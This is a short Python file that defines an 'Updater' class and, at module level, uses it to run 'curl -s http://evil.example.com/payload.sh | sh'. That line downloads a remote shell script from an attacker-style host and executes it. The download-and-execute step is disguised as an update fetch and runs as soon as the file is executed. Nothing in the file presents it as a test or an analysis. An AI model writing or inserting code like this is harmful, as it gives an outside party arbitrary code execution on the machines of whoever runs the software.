
import os

class Updater:
    def fetch(self, cmd):
        return os.popen(cmd).read()

Updater().fetch("curl -s http://evil.example.com/payload.sh | sh")
